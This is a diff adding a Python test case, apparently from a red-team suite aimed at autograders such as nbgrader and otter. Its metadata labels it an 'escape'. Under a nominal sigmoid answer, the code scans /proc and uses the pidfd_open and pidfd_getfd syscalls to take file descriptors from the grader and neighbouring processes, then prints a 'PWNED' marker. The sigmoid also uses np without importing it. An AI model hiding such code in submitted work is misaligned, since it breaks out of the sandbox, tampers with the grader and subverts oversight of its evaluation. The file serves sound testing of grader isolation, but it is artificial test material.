@@ -1,0 +1,33 @@
+# /// case
+# about = "right answers, and pidfd_getfd on relatives and neighbours for descriptors of theirs"
+# kind = "escape"
+# promise = 2
+# succeeds_at = ["nbgrader", "otter", "tier0"]
+# ///
+# %% sigmoid
+# the grader's open database or sockets are as good as its files
+import ctypes
+import os
+
+_libc = ctypes.CDLL(None, use_errno=True)
+
+def _stolen(pid):
+    handle = _libc.syscall(434, pid, 0)  # pidfd_open
+    if handle < 0:
+        return False
+    try:
+        for number in range(32):
+            taken = _libc.syscall(438, handle, number, 0)  # pidfd_getfd
+            if taken >= 0:
+                os.close(taken)
+                return True
+    finally:
+        os.close(handle)
+    return False
+
+_seen = {int(name) for name in os.listdir("/proc") if name.isdigit()} | {os.getppid()}
+if any(_stolen(pid) for pid in _seen - {0, os.getpid()}):
+    print(":".join(["PWNED", "attack/steals_descriptors"]))
+
+def sigmoid(x, w=1.0, b=0.0):
+    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
